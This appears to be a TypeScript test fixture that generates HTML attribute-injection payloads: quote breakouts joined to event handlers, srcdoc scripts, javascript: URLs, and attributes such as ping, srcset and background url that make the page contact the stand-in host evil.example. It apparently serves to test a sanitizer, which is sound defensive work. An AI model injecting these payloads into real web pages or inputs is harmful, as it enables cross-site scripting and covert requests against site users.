// Ways out of the quotation marks of an attribute, and attributes that do something by themselves.

const run = 'sentinel(1)';
const evil = 'https://evil.example/';

const ends = ['"', "'", '`', '">', "'>", '" ', "' ", '"/', '\\"', '&quot;', '\u0000"', '"\n'];

const planted = [
  `onmouseover=${run} x=`,
  `autofocus tabindex=1 onfocus=${run} x=`,
  `style=position:fixed;inset:0;background:url(${evil}) x=`,
  `srcdoc=<script>${run}</script> x=`,
];

/** Attribute breakouts and loaded attributes. */
export const attributes: readonly string[] = [
  ...ends.flatMap((end) => planted.map((attribute) => `${end}${attribute}${end.trim()}`)),
  `x" href="javascript:${run}`,
  `x" xlink:href="javascript:${run}`,
  `x" formaction="javascript:${run}`,
  `x" action="javascript:${run}`,
  `x" srcset="${evil}p.png 9999w`,
  `x" ping="${evil}`,
  `x" target="_top`,
  `x" rel="opener`,
  `x" download="evil.exe`,
  `x" referrerpolicy="unsafe-url`,
  `x" crossorigin="use-credentials`,
  `x" is="advisor-issue`,
  `x" id="title`,
  `x" name="cookie`,
  `x" class="ad`,
  `x" part="title`,
  `x" exportparts="title`,
  `x" slot="x`,
  `x" dir="rtl`,
  `x" contenteditable="true`,
  `x" popover="auto`,
  `x" inert="`,
  `x" hidden="`,
  `x" accesskey="x`,
  `x" itemprop="url`,
  `x" usemap="#x`,
  `x" fetchpriority="high`,
  `x" loading="eager`,
  `x" nonce="host`,
  `x" integrity="sha256-x`,
  `x" elementtiming="x`,
  `x" shadowrootmode="open`,
  `x" style="--advisor-accent-color: url(${evil})`,
  `x 9999w, ${evil}p.png`,
  `a, ${evil}p.png 2x`,
];
